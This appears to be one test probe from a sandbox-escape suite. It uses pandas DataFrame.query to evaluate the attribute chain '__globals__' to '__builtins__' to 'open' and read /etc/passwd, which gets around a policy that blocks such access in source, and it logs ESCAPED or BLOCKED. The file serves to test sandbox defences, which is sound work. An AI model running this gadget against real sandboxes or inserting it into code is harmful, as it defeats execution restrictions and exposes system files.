# id: pkg-pandas-query-at
# technique: DataFrame.query evaluates attributes that the policy refuses in source
# layer: gate
# goal: capability
# success_marker: ESCAPED


def reached(ctx, what):
    ctx.log.info('ESCAPED pkg-pandas-query-at: ' + str(what)[:80])


def attempt(ctx):
    import pandas
    frame = pandas.DataFrame({'a': [1]})
    found = frame.query('@f.__globals__["__builtins__"].open("/etc/passwd").read() != a', local_dict={'f': pandas.concat})
    reached(ctx, found)


def tick(ctx):
    try:
        attempt(ctx)
    except Exception as e:
        ctx.log.info('BLOCKED pkg-pandas-query-at: ' + str(e)[:160])
    ctx.log.info('DONE pkg-pandas-query-at')
